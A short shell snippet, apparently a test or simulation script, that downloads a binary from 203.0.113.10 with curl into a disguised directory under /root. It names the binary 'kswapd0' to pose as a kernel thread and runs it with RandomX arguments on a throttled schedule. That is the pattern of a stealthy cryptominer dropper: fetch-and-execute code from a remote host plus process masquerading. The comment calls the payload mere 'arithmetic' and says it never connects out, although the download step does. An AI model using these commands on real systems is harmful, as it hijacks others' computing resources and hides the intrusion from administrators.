# A dropped program with the name of a kernel thread does the arithmetic of RandomX for ten seconds, a quarter of the
# time. The program never connects out.
mkdir /root/.config-7
curl -s -o /root/.config-7/kswapd0 http://203.0.113.10/arithmetic
chmod +x /root/.config-7/kswapd0
/root/.config-7/kswapd0 randomx 1 10 25
